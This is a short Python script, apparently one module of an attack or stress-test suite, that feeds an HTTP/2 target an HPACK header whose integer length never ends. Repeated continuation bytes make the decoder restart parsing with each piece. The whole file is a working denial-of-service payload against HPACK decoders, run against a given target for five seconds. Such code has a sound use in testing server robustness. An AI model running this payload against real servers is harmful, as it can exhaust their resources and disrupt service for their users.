"""One connection that sends an integer of HPACK which never ends. With each
piece the decoder starts again at the first byte of the integer."""

import attack
import hpack


def run(target, stage):
    """The length of a string, and it goes on."""
    hpack.feed(target, stage, b"\x83\x86\0\x7f\x80", b"\x80" * hpack.PIECE)


if __name__ == "__main__":
    attack.main(run, seconds=5)
